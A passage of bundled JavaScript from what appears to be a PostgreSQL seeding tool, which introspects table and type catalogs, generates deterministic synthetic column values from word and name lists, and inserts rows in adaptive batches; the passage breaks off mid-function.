      `SELECT ARRAY[${tables.map((t) => `EXISTS (SELECT 1 FROM ${t.sql})`).join(", ")}] AS filled`
    );
    tables.forEach((t, i) => t.hasRows = filled.filled[i]);
  }
  return { relations: [...relations.values()], types };
}
async function readPartitioning(session, parents) {
  for (const parent of parents) {
    const tree = await session.query(
      `SELECT t.relid::int8 AS relid, t.parentrelid::int8 AS parent, t.isleaf AS leaf, c.relkind::text AS relkind,
              pg_get_expr(c.relpartbound, c.oid) AS bound,
              CASE WHEN t.isleaf THEN pg_get_partition_constraintdef(t.relid) END AS constraint,
              (SELECT array_agg(a.attname::text) FROM pg_partitioned_table p JOIN pg_attribute a
                  ON a.attrelid = p.partrelid AND a.attnum = ANY (p.partattrs::int2[])
                WHERE p.partrelid = t.relid) AS key
         FROM pg_partition_tree($1::regclass) t JOIN pg_class c ON c.oid = t.relid
        ORDER BY t.level, t.relid`,
      [parent.oid]
    );
    const [strategy] = await session.query(
      `SELECT partstrat::text AS strategy, string_to_array(partattrs::text, ' ')::int4[] AS key
         FROM pg_partitioned_table WHERE partrelid = $1::oid`,
      [parent.oid]
    );
    const children = tree.filter((t) => t.parent === parent.oid);
    const usable = tree.filter((t) => t.leaf && t.relkind !== "f");
    parent.partitioning = {
      strategy: strategy.strategy === "r" ? "range" : strategy.strategy === "l" ? "list" : "hash",
      key: strategy.key,
      routedColumns: new Set(tree.flatMap((t) => t.key ?? [])),
      bounds: children.map((c) => c.bound ?? ""),
      leafConstraints: usable.map((t) => t.constraint ?? "true"),
      defaultLeaf: children.some((c) => c.bound === "DEFAULT" && c.leaf && c.relkind !== "f")
    };
  }
}
async function loadTypes(session, wanted, types) {
  let missing = [...wanted].filter((oid) => !types.has(oid));
  while (missing.length > 0) {
    const rows2 = await session.query(
      `SELECT t.oid::int8 AS oid, t.typname::text AS name, n.nspname::text AS schema, format_type(t.oid, NULL) AS sql,
              t.typcategory::text AS category,
              CASE WHEN t.typcategory = 'A' AND t.typelem <> 0 THEN t.typelem::int8 END AS element,
              CASE WHEN t.typtype = 'd' THEN t.typbasetype::int8 END AS base, t.typtypmod AS basetypmod,
              CASE WHEN t.typtype = 'd' THEN format_type(t.typbasetype, t.typtypmod) END AS basesql,
              t.typnotnull AS domainnotnull,
              (SELECT array_agg(pg_get_expr(c.conbin, 0) ORDER BY c.conname) FROM pg_constraint c
                WHERE c.contypid = t.oid AND c.contype = 'c') AS checks,
              (SELECT array_agg(quote_literal(e.enumlabel) ORDER BY e.enumsortorder) FROM pg_enum e
                WHERE e.enumtypid = t.oid) AS labels,
              CASE WHEN t.typtype = 'c' THEN t.typrelid::int8 END AS relid,
              (SELECT r.rngsubtype::int8 FROM pg_range r WHERE r.rngtypid = t.oid) AS subtype
         FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace
        WHERE t.oid = ANY($1::oid[])`,
      [oidArray2(missing)]
    );
    const relids = rows2.filter((r) => r.relid !== null).map((r) => r.relid);
    const fields = relids.length === 0 ? [] : await session.query(
      `SELECT attrelid::int8 AS rel, quote_ident(attname) AS sql, atttypid::int8 AS type, atttypmod AS typmod
         FROM pg_attribute WHERE attrelid = ANY($1::oid[]) AND attnum > 0 AND NOT attisdropped
        ORDER BY attrelid, attnum`,
      [oidArray2(relids)]
    );
    const next = /* @__PURE__ */ new Set();
    for (const row of rows2) {
      const info = { oid: row.oid, name: row.name, schema: row.schema, sql: row.sql, category: row.category };
      if (row.element !== null) info.element = row.element;
      if (row.base !== null) {
        info.base = row.base;
        info.baseSql = row.basesql;
        info.baseTypmod = row.basetypmod;
        info.domainNotNull = row.domainnotnull;
        info.domainChecks = row.checks ?? [];
      }
      if (row.labels) info.labels = row.labels;
      if (row.subtype !== null) info.subtype = row.subtype;
      if (row.relid !== null) info.fields = fields.filter((f) => f.rel === row.relid).map(({ sql, type, typmod }) => ({ sql, type, typmod }));
      types.set(row.oid, info);
      for (const oid of [info.element, info.base, info.subtype, ...(info.fields ?? []).map((f) => f.type)]) {
        if (oid !== void 0 && !types.has(oid)) next.add(oid);
      }
    }
    missing = [...next];
  }
}
function oidArray2(oids) {
  return `{${[...oids].join(",")}}`;
}
var USER_RELATIONS2, KINDS;
var init_catalog2 = __esm({
  "src/seed/catalog.ts"() {
    "use strict";
    USER_RELATIONS2 = `
  SELECT c.oid::int8 AS oid, n.nspname AS schema, c.relname AS name,
         quote_ident(n.nspname) || '.' || quote_ident(c.relname) AS sql, c.relkind::text AS relkind,
         c.relispartition AS partition
    FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
   WHERE c.relkind IN ('r', 'p', 'v', 'm', 'f') AND c.relpersistence <> 't'
     AND n.nspname <> 'information_schema' AND n.nspname !~ '^pg_'
     AND NOT EXISTS (SELECT 1 FROM pg_depend d
                      WHERE d.classid = 'pg_class'::regclass AND d.objid = c.oid AND d.deptype = 'e')
   ORDER BY n.nspname, c.relname`;
    KINDS = { r: "table", p: "partitioned", v: "view", m: "matview", f: "foreign" };
  }
});

// src/seed/values.ts
function pick(n, salt, skew, of = ROW) {
  return skew ? `floor(${n} * power(${unit(salt, of)}, 3))::int8` : below(n, salt, of);
}
function nullsPerMille(name) {
  return /^(deleted|archived|removed|cancell?ed|banned|disabled|revoked)(_at|_on)?$/.test(name) ? 950 : 100;
}
function columnValue2(column, want, salt, context) {
  const type = column.type.base !== void 0 ? baseOf(column.type, context.types) : { type: column.type, typmod: column.typmod };
  if (want.hints.values && want.hints.values.length > 0) return fromList(want.hints.values, want, salt, context);
  return valueOf(type.type, type.typmod, want, salt, context, 0);
}
function baseOf(type, types) {
  const chain = [];
  let current = type;
  let typmod = -1;
  while (current.base !== void 0) {
    chain.push(current);
    if (typmod < 0) typmod = current.baseTypmod ?? -1;
    current = types.get(current.base);
  }
  return { type: current, typmod, chain };
}
function fromList(values, want, salt, context) {
  const list = `(ARRAY[${values.join(", ")}])`;
  if (want.unique) return { expr: `${list}[${ROW}]`, capacity: values.length };
  return { expr: `${list}[1 + ${pick(values.length, salt("pick"), context.skew)}]`, capacity: Infinity };
}
function valueOf(type, typmod, want, salt, context, depth) {
  if (type.base !== void 0) {
    const base = baseOf(type, context.types);
    const inner = valueOf(base.type, base.typmod, want, salt, context, depth + 1);
    return "expr" in inner ? { ...inner, expr: `(${inner.expr})::${type.sql}` } : inner;
  }
  if (type.labels) return fromList(type.labels.map((l) => `${l}::${type.sql}`), want, salt, context);
  if (type.element !== void 0) {
    const element = context.types.get(type.element);
    const item = (i) => valueOf(element, typmod, { ...want, unique: want.unique && i === 0, hints: {} }, (p) => salt(`${p}[${i}]`), context, depth + 1);
    const first = item(0);
    if (!("expr" in first)) return first;
    if (want.unique) return { expr: `ARRAY[${first.expr}]`, capacity: first.capacity };
    const rest = [1, 2].map((i) => item(i).expr);
    return { expr: `(ARRAY[${[first.expr, ...rest].join(", ")}])[1:${below(4, salt("length"))}]`, capacity: Infinity };
  }
  if (type.fields) {
    if (depth > 3) return { unsupported: `${type.sql} (nested too deep)` };
    const fields = [];
    for (const [i, field] of type.fields.entries()) {
      const value = valueOf(context.types.get(field.type), field.typmod, { ...want, unique: want.unique && i === 0, hints: {}, name: field.sql }, (p) => salt(`${p}.${i}`), context, depth + 1);
      if (!("expr" in value)) return value;
      fields.push(value.expr);
    }
    return { expr: `ROW(${fields.join(", ")})::${type.sql}`, capacity: Infinity };
  }
  if (type.subtype !== void 0) {
    const subtype = context.types.get(type.subtype);
    const a = valueOf(subtype, -1, { ...want, hints: {} }, (p) => salt(`${p}.lower`), context, depth + 1);
    const b = valueOf(subtype, -1, { ...want, unique: false, hints: {} }, (p) => salt(`${p}.upper`), context, depth + 1);
    if (!("expr" in a) || !("expr" in b)) return { unsupported: type.sql };
    if (want.unique) return { expr: `${type.sql}(${a.expr}, ${a.expr}, '[]')`, capacity: a.capacity };
    return { expr: `${type.sql}(least(${a.expr}, ${b.expr}), greatest(${a.expr}, ${b.expr}))`, capacity: Infinity };
  }
  const builtin = type.schema === "pg_catalog" ? BUILTIN[type.name] : void 0;
  if (builtin) return builtin(typmod, want, salt, context);
  if (type.category === "S") return text(void 0, want, salt, context);
  return { unsupported: type.sql };
}
function integerBounds(hints, min, max) {
  const lo = hints.min === void 0 ? min : Math.max(min, hints.minExclusive ? Math.floor(hints.min) + 1 : Math.ceil(hints.min));
  const hi = hints.max === void 0 ? max : Math.min(max, hints.maxExclusive ? Math.ceil(hints.max) - 1 : Math.floor(hints.max));
  return { lo, hi };
}
function timeSpan(context) {
  const end2 = Date.parse(`${context.today}T00:00:00Z`);
  return { start: new Date(end2 - SPAN_DAYS * 864e5).toISOString().slice(0, 10), days: SPAN_DAYS };
}
function point(salt, purpose, unique4) {
  return unique4 ? `point(${ROW}, ${unit(salt(`${purpose}.y`))} * 180 - 90)` : `point(${unit(salt(`${purpose}.x`))} * 360 - 180, ${unit(salt(`${purpose}.y`))} * 180 - 90)`;
}
function jsonObject(kind, salt) {
  return `${kind}_build_object('id', ${ROW}, 'name', ${word(salt("json"), 0)}, 'score', ${below(100, salt("score"))}, 'tags', ${kind}_build_array(${word(salt("json"), 1)}, ${word(salt("json"), 2)}), 'active', ((${hash(salt("active"))} & 1) = 0))`;
}
function word(salt, k) {
  return `(${WORDS_SQL})[1 + ((${hash(salt)} >> ${6 * k}) & 63)]`;
}
function choose(list, salt, skew) {
  return `(${arrayLiteral(list)})[1 + ${pick(list.length, salt, skew)}]`;
}
function sentence(salt, unique4) {
  const h = hash(salt("sentence"));
  const phrase = (list) => `(${PHRASES[list]})[1 + ((${h} >> ${6 * list}) & 63)]`;
  const body = `${phrase(0)} || ' ' || ${phrase(1)} || CASE WHEN ((${h} >> 18) & 1) = 0 THEN ' ' || ${phrase(2)} ELSE '' END`;
  return unique4 ? `(${body} || ' ' || ${ROW} || '.')` : `(${body} || '.')`;
}
function unique3(expr, isUnique) {
  return isUnique ? `${expr} || ' ' || ${ROW}` : expr;
}
function text(maxLength, want, salt, context) {
  const kind = TEXT_KINDS.find(([pattern]) => pattern.test(want.name))?.[1];
  let expr = kind ? kind(salt, want.unique, context) : unique3(`${word(salt("words"), 0)} || ' ' || ${word(salt("words"), 1)}`, want.unique);
  const limit = Math.min(maxLength ?? Infinity, want.hints.maxLength ?? Infinity);
  let capacity = Infinity;
  if (Number.isFinite(limit)) {
    expr = want.unique ? `right(${expr}, ${limit})` : `left(${expr}, ${limit})`;
    if (want.unique) capacity = limit >= 15 ? Infinity : 10 ** limit - 1;
  }
  if (want.hints.minLength) expr = `rpad(${expr}, ${want.hints.minLength}, 'x')`;
  return { expr, capacity };
}
var ROW, SPAN_DAYS, MAX_SAFE, hash, below, unit, integer, numeric, float, bytes16, MONOTONIC, timestamp, date, time, BUILTIN, WORDS, FIRST_NAMES, LAST_NAMES, CITIES, COUNTRIES, CURRENCIES, LOCALES, STATUSES, arrayLiteral, WORDS_SQL, PHRASES, suffix, TEXT_KINDS;
var init_values = __esm({
  "src/seed/values.ts"() {
    "use strict";
    ROW = "sp.g";
    SPAN_DAYS = 3 * 365;
    MAX_SAFE = Number.MAX_SAFE_INTEGER;
    hash = (salt, of = ROW) => `hashint8extended(${of}, ${salt})`;
    below = (n, salt, of = ROW) => `((${hash(salt, of)} & 9223372036854775807) % ${n})`;
    unit = (salt, of = ROW) => `((${hash(salt, of)} & 4503599627370495)::float8 / 4503599627370496)`;
    integer = (min, max, span) => (_typmod, want, salt) => {
      const { lo, hi } = integerBounds(want.hints, min, max);
      if (want.unique) {
        const start = Math.max(lo, Math.min(1, hi));
        return { expr: `(${start - 1} + ${ROW})`, capacity: hi - start + 1 };
      }
      const from = want.hints.min !== void 0 ? lo : Math.max(lo, hi >= 0 ? 0 : hi - span + 1);
      const to = Math.min(hi, from + span - 1);
      return { expr: `(${from} + ${below(Math.max(1, to - from + 1), salt("int"))})`, capacity: Infinity };
    };
    numeric = (typmod, want, salt) => {
      const precision2 = typmod >= 4 ? typmod - 4 >> 16 & 65535 : void 0;
      const scale = typmod >= 4 ? Math.max(0, Math.min(typmod - 4 & 2047, precision2)) : 2;
      const step = 10 ** -scale;
      const typeMax = precision2 === void 0 ? MAX_SAFE : 10 ** (precision2 - scale) - step;
      const lo = Math.max(-typeMax, want.hints.min === void 0 ? -typeMax : want.hints.min + (want.hints.minExclusive ? step : 0));
      const hi = Math.min(typeMax, want.hints.max === void 0 ? typeMax : want.hints.max - (want.hints.maxExclusive ? step : 0));
      if (want.unique) {
        const unitStep = precision2 === void 0 || precision2 - scale >= 1 ? 1 : step;
        const start = Math.max(lo, Math.min(unitStep, hi));
        return { expr: `(${start} + (${ROW} - 1) * ${unitStep}::numeric)`, capacity: Math.floor((hi - start) / unitStep) + 1 };
      }
      const from = want.hints.min !== void 0 ? lo : Math.max(lo, hi >= 0 ? 0 : hi - 1e4);
      const to = Math.min(hi, from + 1e4);
      const [first, last] = [Math.ceil(from / step - 1e-9), Math.floor(to / step + 1e-9)];
      const steps = `(${first} + ${below(Math.max(1, last - first + 1), salt("numeric"))})::numeric`;
      return { expr: scale === 0 ? steps : `(${steps} * ${step.toFixed(scale)})`, capacity: Infinity };
    };
    float = (_typmod, want, salt) => {
      if (want.unique) return { expr: `(${want.hints.min ?? 0} + ${ROW})::float8`, capacity: Infinity };
      const from = want.hints.min ?? (want.hints.max !== void 0 && want.hints.max < 0 ? want.hints.max - 1e3 : 0);
      const to = want.hints.max ?? from + 1e3;
      return { expr: `(${from} + ${unit(salt("float"))} * ${to - from})`, capacity: Infinity };
    };
    bytes16 = (salt, purpose) => `(int8send(${hash(salt(`${purpose}.0`))}) || int8send(${hash(salt(`${purpose}.1`))}))`;
    MONOTONIC = /^(created|inserted|added|registered|occurred|recorded|logged|received|sent)(_at|_on|_date|_time)?$/;
    timestamp = (literal2) => (_typmod, want, salt, context) => {
      const { start, days } = timeSpan(context);
      const from = literal2(start);
      if (want.unique) {
        const step = Math.max(1, Math.floor(days * 86400 / Math.max(1, want.rows)));
        return { expr: `(${from} + (${ROW} - 1) * INTERVAL '${step} seconds')`, capacity: Infinity };
      }
      if (MONOTONIC.test(want.name)) {
        return { expr: `(${from} + ((${ROW} - 1 + ${unit(salt("jitter"))}) / ${Math.max(1, want.rows)}) * INTERVAL '${days} days')`, capacity: Infinity };
      }
      return { expr: `(${from} + ${unit(salt("time"))} * INTERVAL '${days} days')`, capacity: Infinity };
    };
    date = (_typmod, want, salt, context) => {
      const { start, days } = timeSpan(context);
      if (want.unique) return { expr: `(DATE '${context.today}' - ${Math.max(1, want.rows)} + ${ROW}::int4)`, capacity: 5e6 };
      if (MONOTONIC.test(want.name)) return { expr: `(DATE '${start}' + ((${ROW} - 1) * ${days} / ${Math.max(1, want.rows)})::int4)`, capacity: Infinity };
      return { expr: `(DATE '${start}' + ${below(days, salt("date"))}::int4)`, capacity: Infinity };
    };
    time = (_typmod, want, salt) => want.unique ? { expr: `(TIME '00:00' + (${ROW} - 1) * INTERVAL '1 second')`, capacity: 86400 } : { expr: `(TIME '00:00' + ${below(86400, salt("time"))} * INTERVAL '1 second')`, capacity: Infinity };
    BUILTIN = {
      int2: integer(-32768, 32767, 1e3),
      int4: integer(-2147483648, 2147483647, 1e6),
      int8: integer(-MAX_SAFE, MAX_SAFE, 1e9),
      numeric,
      float4: float,
      float8: float,
      money: (_t, want, salt) => ({ expr: `(${want.unique ? ROW : below(1e6, salt("money"))}::numeric / 100)::money`, capacity: Infinity }),
      bool: (_t, want, salt) => want.unique ? { expr: `(${ROW} = 1)`, capacity: 2 } : { expr: `((${hash(salt("bool"))} & 1) = 0)`, capacity: Infinity },
      uuid: (_t, _want, salt) => ({ expr: `encode(${bytes16(salt, "uuid")}, 'hex')::uuid`, capacity: Infinity }),
      text: (_t, want, salt, context) => text(void 0, want, salt, context),
      varchar: (typmod, want, salt, context) => text(typmod > 4 ? typmod - 4 : void 0, want, salt, context),
      bpchar: (typmod, want, salt, context) => text(typmod > 4 ? typmod - 4 : void 0, want, salt, context),
      name: (_t, want, salt, context) => text(63, want, salt, context),
      date,
      timestamp: timestamp((day) => `TIMESTAMP '${day}'`),
      timestamptz: timestamp((day) => `TIMESTAMPTZ '${day} 00:00:00+00'`),
      time,
      timetz: (typmod, want, salt, context) => {
        const t = time(typmod, want, salt, context);
        return { ...t, expr: `${t.expr}::timetz` };
      },
      interval: (_t, want, salt) => ({ expr: `(${want.unique ? ROW : below(30 * 86400, salt("interval"))} * INTERVAL '1 second')`, capacity: Infinity }),
      json: (_t, _want, salt) => ({ expr: jsonObject("json", salt), capacity: Infinity }),
      jsonb: (_t, _want, salt) => ({ expr: jsonObject("jsonb", salt), capacity: Infinity }),
      bytea: (_t, _want, salt) => ({ expr: bytes16(salt, "bytea"), capacity: Infinity }),
      inet: (_t, want, salt) => ({ expr: `('10.0.0.0'::inet + ${want.unique ? ROW : below(16777216, salt("inet"))})`, capacity: 4e9 }),
      cidr: (_t, want, salt) => ({
        expr: `network(set_masklen('10.0.0.0'::inet + ${want.unique ? ROW : below(65536, salt("cidr"))} * 256, 24))`,
        capacity: 15e6
      }),
      macaddr: (_t, _want, salt) => ({ expr: `left(encode(${bytes16(salt, "mac")}, 'hex'), 12)::macaddr`, capacity: Infinity }),
      macaddr8: (_t, _want, salt) => ({ expr: `left(encode(${bytes16(salt, "mac")}, 'hex'), 16)::macaddr8`, capacity: Infinity }),
      bit: (_t, want, salt) => ({ expr: `(${want.unique ? ROW : hash(salt("bit"))})::int8::bit(64)`, capacity: Infinity }),
      varbit: (_t, want, salt) => ({ expr: `(${want.unique ? ROW : hash(salt("bit"))})::int8::bit(64)::varbit`, capacity: Infinity }),
      tsvector: (_t, want, salt) => ({ expr: `to_tsvector('simple', ${sentence(salt, want.unique)})`, capacity: Infinity }),
      point: (_t, want, salt) => ({ expr: point(salt, "point", want.unique), capacity: Infinity }),
      box: (_t, want, salt) => ({ expr: `box(${point(salt, "a", want.unique)}, ${point(salt, "b", false)})`, capacity: Infinity }),
      circle: (_t, want, salt) => ({ expr: `circle(${point(salt, "centre", want.unique)}, 1 + ${unit(salt("radius"))} * 10)`, capacity: Infinity }),
      polygon: (_t, want, salt) => ({ expr: `polygon(box(${point(salt, "a", want.unique)}, ${point(salt, "b", false)}))`, capacity: Infinity }),
      lseg: (_t, want, salt) => ({ expr: `lseg(${point(salt, "a", want.unique)}, ${point(salt, "b", false)})`, capacity: Infinity })
    };
    WORDS = [
      "alpha",
      "amber",
      "apex",
      "arc",
      "atlas",
      "aurora",
      "beacon",
      "birch",
      "bold",
      "bright",
      "brook",
      "cedar",
      "cloud",
      "comet",
      "coral",
      "crest",
      "delta",
      "drift",
      "echo",
      "ember",
      "falcon",
      "fern",
      "flint",
      "forge",
      "frost",
      "glade",
      "harbor",
      "hazel",
      "horizon",
      "iris",
      "jade",
      "lumen",
      "maple",
      "meadow",
      "mesa",
      "nova",
      "oak",
      "onyx",
      "orbit",
      "pearl",
      "pine",
      "pixel",
      "prism",
      "quartz",
      "quill",
      "raven",
      "ridge",
      "river",
      "sage",
      "shadow",
      "silver",
      "slate",
      "solar",
      "spark",
      "spruce",
      "stone",
      "summit",
      "tide",
      "timber",
      "valley",
      "vertex",
      "willow",
      "zenith",
      "zephyr"
    ];
    FIRST_NAMES = [
      "Ada",
      "Alan",
      "Amara",
      "Bruno",
      "Chen",
      "Clara",
      "Dmitri",
      "Elena",
      "Farah",
      "Felix",
      "Grace",
      "Hiro",
      "Ines",
      "Ivan",
      "Jonas",
      "Kaito",
      "Lena",
      "Liam",
      "Maya",
      "Mateo",
      "Nadia",
      "Noah",
      "Olga",
      "Omar",
      "Priya",
      "Rafael",
      "Sara",
      "Tariq",
      "Uma",
      "Vera",
      "Yusuf",
      "Zoe"
    ];
    LAST_NAMES = [
      "Adams",
      "Becker",
      "Costa",
      "Dubois",
      "Eriksen",
      "Fischer",
      "Garcia",
      "Hansen",
      "Ito",
      "Jensen",
      "Kowalski",
      "Lopez",
      "Martin",
      "Nakamura",
      "Novak",
      "Okafor",
      "Petrov",
      "Quinn",
      "Rossi",
      "Schmidt",
      "Silva",
      "Tanaka",
      "Tran",
      "Usman",
      "Varga",
      "Wagner",
      "Weber",
      "Wong",
      "Yilmaz",
      "Young",
      "Zhang",
      "Ziegler"
    ];
    CITIES = ["Amsterdam", "Berlin", "Chicago", "Dublin", "Lisbon", "London", "Madrid", "Mumbai", "Nairobi", "Osaka", "Paris", "Prague", "Seoul", "Sydney", "Toronto", "Vienna"];
    COUNTRIES = ["US", "DE", "FR", "GB", "JP", "IN", "BR", "CA", "ES", "IT", "NL", "SE", "PL", "KR", "AU", "MX"];
    CURRENCIES = ["USD", "EUR", "GBP", "JPY", "INR", "BRL", "CAD", "CHF"];
    LOCALES = ["en", "de", "fr", "es", "ja", "pt", "it", "nl"];
    STATUSES = ["active", "pending", "completed", "cancelled", "archived"];
    arrayLiteral = (list) => `'{${list.map((w) => `"${w}"`).join(",")}}'::text[]`;
    WORDS_SQL = arrayLiteral(WORDS);
    PHRASES = (() => {
      let state = 625341585;
      const next = () => {
        state = Math.imul(state ^ state >>> 15, 739982445) >>> 0;
        state = (state ^ Math.imul(state ^ state >>> 12, 695872825)) >>> 0;
        return state;
      };
      const phrase = () => Array.from({ length: 3 + next() % 3 }, () => WORDS[next() % WORDS.length]).join(" ");
      return [0, 1, 2].map(() => arrayLiteral(Array.from({ length: 64 }, phrase)));
    })();
    suffix = (unique4, salt, spread = 1e3) => unique4 ? ROW : below(spread, salt("number"));
    TEXT_KINDS = [
      [/e_?mail/, (s, u) => `lower(${choose(FIRST_NAMES, s("first"), false)} || '.' || ${choose(LAST_NAMES, s("last"), false)}) || ${suffix(u, s)} || '@example.com'`],
      [/^(first|given)_?name$/, (s, u, c) => unique3(choose(FIRST_NAMES, s("first"), c.skew), u)],
      [/^(last|family|sur)_?name$|^surname$/, (s, u, c) => unique3(choose(LAST_NAMES, s("last"), c.skew), u)],
      [/user_?name|login|handle|nick/, (s, u) => `lower(${choose(FIRST_NAMES, s("first"), false)}) || ${suffix(u, s, 1e5)}`],
      [/(^|_)(full|display|contact|person|customer|author|owner)_?name$/, (s, u) => unique3(`${choose(FIRST_NAMES, s("first"), false)} || ' ' || ${choose(LAST_NAMES, s("last"), false)}`, u)],
      [/url|website|link|href|uri$/, (s, u) => `'https://example.com/' || ${word(s("path"), 0)} || '/' || ${suffix(u, s, 1e5)}`],
      [/phone|mobile|fax/, (s, u) => `'+1 555 ' || lpad((${suffix(u, s, 1e7)})::text, 7, '0')`],
      [/country/, (s, u, c) => unique3(choose(COUNTRIES, s("country"), c.skew), u)],
      [/currency/, (s, u, c) => unique3(choose(CURRENCIES, s("currency"), c.skew), u)],
      [/locale|lang/, (s, u, c) => unique3(choose(LOCALES, s("locale"), c.skew), u)],
      [/city|town/, (s, u, c) => unique3(choose(CITIES, s("city"), c.skew), u)],
      [/street|address/, (s, u) => `${suffix(u, s, 2e3)} || ' ' || initcap(${word(s("street"), 0)}) || ' Street'`],
      [/zip|postal|postcode/, (s, u) => `lpad((${suffix(u, s, 1e5)})::text, 5, '0')`],
      [/status|state$|kind|type$|category|role|tier|stage|priority|level/, (s, u, c) => unique3(choose(STATUSES, s("status"), c.skew), u)],
      [/slug|code|sku|key$|token|hash|ref(erence)?$|external/, (s, u) => `${word(s("code"), 0)} || '-' || ${u ? ROW : `to_hex(${below(16777216, s("number"))})`}`],
      [/descr|body|content|comment|note|message|summary|bio|text|detail|reason|remark/, (s, u) => sentence(s, u)],
      [/name|title|label|subject|headline|caption/, (s, u) => unique3(`initcap(${word(s("title"), 0)} || ' ' || ${word(s("title"), 1)})`, u)]
    ];
  }
});

// src/seed/fill.ts
async function fillTable(session, plan, onBatch) {
  let mode = plan.collisions && !plan.deferrableUnique ? "conflict" : "plain";
  let next = 1;
  let inserted = 0;
  let batch = FIRST_BATCH;
  let lastError;
  let rowError;
  let emptyBatches = 0;
  let rowFunction = false;
  const limit = Math.min(plan.maxRow, plan.target * MAX_ROWS_PER_WANTED + 1e4);
  while (inserted < plan.target) {
    if (next > limit) return { rows: inserted, shortfall: await exhausted(session, plan, next, rowError ?? lastError) };
    const remaining = plan.target - inserted;
    const yieldRate = next > 1 ? Math.max(inserted / (next - 1), 0.02) : 1;
    const size = Math.max(1, Math.min(mode === "rows" ? ROW_MODE_BATCH : batch, Math.ceil(remaining / yieldRate), limit - next + 1));
    const [from, to] = [next, next + size - 1];
    const started = performance.now();
    let got;
    try {
      if (mode === "rows") {
        if (!rowFunction) await createRowFunction(session, plan);
        rowFunction = true;
        const result2 = await insertRows(session, from, to, remaining);
        got = result2.rows;
        rowError ??= result2.error;
      } else {
        got = await insertBatch(session, plan, from, to, remaining, mode === "conflict");
      }
    } catch (error) {
      if (error instanceof ProviderError) throw error;
      const code = error.code;
      lastError = describe2(error);
      if (code === QUERY_CANCELED && batch > FIRST_BATCH) {
        batch = Math.max(FIRST_BATCH, Math.floor(batch / 4));
        continue;
      }
      if (mode === "plain" && (code === UNIQUE_VIOLATION || code === EXCLUSION_VIOLATION) && !plan.deferrableUnique) {
        mode = "conflict";
        continue;
      }
      if (mode !== "rows") {
        mode = "rows";
        continue;
      }
      return { rows: inserted, shortfall: `inserting failed: ${lastError}` };
    }
    const ms = performance.now() - started;
    inserted += got;
    next = to + 1;
    onBatch(inserted);
    emptyBatches = got === 0 ? emptyBatches + 1 : 0;
    if (emptyBatches >= 3) return { rows: inserted, shortfall: await exhausted(session, plan, from, rowError ?? lastError, to) };
    if (mode !== "rows") batch = nextBatch(size, ms);
  }
  return { rows: inserted };
}
function nextBatch(size, ms) {
  return Math.max(1e3, Math.min(MAX_BATCH, Math.round(size * Math.min(4, Math.max(0.25, BATCH_MS / Math.max(ms, 1))))));
}
function selectSql(plan, from, to, limit) {
  const inner = plan.columns.map((c) => `${c.value} AS ${c.column.sql}`).join(", ");
  const rows2 = `(SELECT g${plan.hashes.map((salt) => `, hashint8extended(g, ${salt}) AS h${salt}`).join("")} FROM (SELECT generate_series(${from}::int8, ${to}::int8) AS g) AS series OFFSET 0) AS sp${plan.joins.map((j) => ` ${j}`).join("")}`;
  const cap = limit !== void 0 ? ` LIMIT ${limit}` : "";
  if (plan.filters.length === 0 && plan.columns.every((c) => c.outer === `r.${c.column.sql}`)) return `SELECT ${inner} FROM ${rows2}${cap}`;
  const outer = plan.columns.map((c) => c.outer).join(", ");
  const where = plan.filters.length > 0 ? ` WHERE ${plan.filters.map((f) => f.sql).join(" AND ")}` : "";
  return `SELECT ${outer} FROM (SELECT ${inner} FROM ${rows2} OFFSET 0) AS r${where}${cap}`;
}
function insertInto(plan) {
  const list = plan.columns.length > 0 ? ` (${plan.columns.map((c) => c.column.sql).join(", ")})` : "";
  return `INSERT INTO ${plan.relation.sql}${list}`;
}
async function insertBatch(session, plan, from, to, limit, onConflict) {
  const lossy = plan.filters.length > 0 || onConflict || plan.relation.beforeInsertTriggers;
  const insert = `${insertInto(plan)} ${selectSql(plan, from, to, plan.filters.length > 0 ? limit : void 0)}${onConflict ? " ON CONFLICT DO NOTHING" : ""}`;
  if (!lossy) {
    await session.query(insert);
    return to - from + 1;
  }
  const [row] = await session.query(`WITH sp_ins AS (${insert} RETURNING 1) SELECT count(*)::int8 AS n FROM sp_ins`);
  return Number(row.n);
}
async function createRowFunction(session, plan) {
  const values = plan.columns.map((c) => `sp_row.${c.column.sql}`).join(", ");
  const insert = plan.columns.length > 0 ? `${insertInto(plan)} VALUES (${values})` : `${insertInto(plan)} DEFAULT VALUES`;
  const onConflict = plan.deferrableUnique ? "" : " ON CONFLICT DO NOTHING";
  await session.query(`
CREATE OR REPLACE FUNCTION ${ROW_FUNCTION}(sp_from int8, sp_to int8, sp_limit int8, OUT ok int8, OUT first_error text)
LANGUAGE plpgsql AS $sql_preflight$
#variable_conflict use_column
DECLARE sp_row record;
BEGIN
  ok := 0;
  FOR sp_row IN ${selectSql(plan, "sp_from", "sp_to")} LOOP
    BEGIN
      ${insert}${onConflict};
      IF FOUND THEN ok := ok + 1; END IF;
    EXCEPTION WHEN OTHERS THEN
      first_error := coalesce(first_error, SQLERRM);
    END;
    EXIT WHEN ok >= sp_limit;
  END LOOP;
END
$sql_preflight$`);
}
async function insertRows(session, from, to, limit) {
  const [row] = await session.query(`SELECT ok, first_error FROM ${ROW_FUNCTION}($1, $2, $3)`, [from, to, limit]);
  return { rows: Number(row.ok), ...row.first_error ? { error: row.first_error } : {} };
}
async function dropRowFunction(session) {
  await session.query(`DROP FUNCTION IF EXISTS ${ROW_FUNCTION}(int8, int8, int8)`);
}
async function exhausted(session, plan, from, error, to = from + 999) {
  if (from > plan.maxRow) return "its unique keys ran out of distinct values";
  if (error) return `generated rows failed: ${error}`;
  if (plan.filters.length > 0) {
    const counts = plan.filters.map((f, i) => `count(*) FILTER (WHERE ${f.sql}) AS f${i}`).join(", ");
    const all = selectSql({ ...plan, filters: [] }, from, to);
    try {
      const [row] = await session.query(`SELECT ${counts} FROM (${all}) AS r`);
      const rejecting = plan.filters.filter((_, i) => Number(row[`f${i}`]) === 0).map((f) => f.label);
      if (rejecting.length > 0) return `no generated row satisfies ${rejecting.join(" and ")}`;
      return `too few generated rows satisfy ${plan.filters.map((f) => f.label).join(" and ")}, or they collide on a unique key`;
    } catch (error2) {
      if (error2 instanceof ProviderError) throw error2;
      return `generated rows failed: ${describe2(error2)}`;
    }
  }
  return "the generated rows kept colliding on a unique key";
}
async function fillDeferred(session, child, fk, parent, keys, salts, skew) {
  const sqlOf = (table, num) => table.columns.find((c) => c.num === num).sql;
  const self = parent === child;
  const rank = "pg_temp.sql_preflight_rank";
  const r = "s.r";
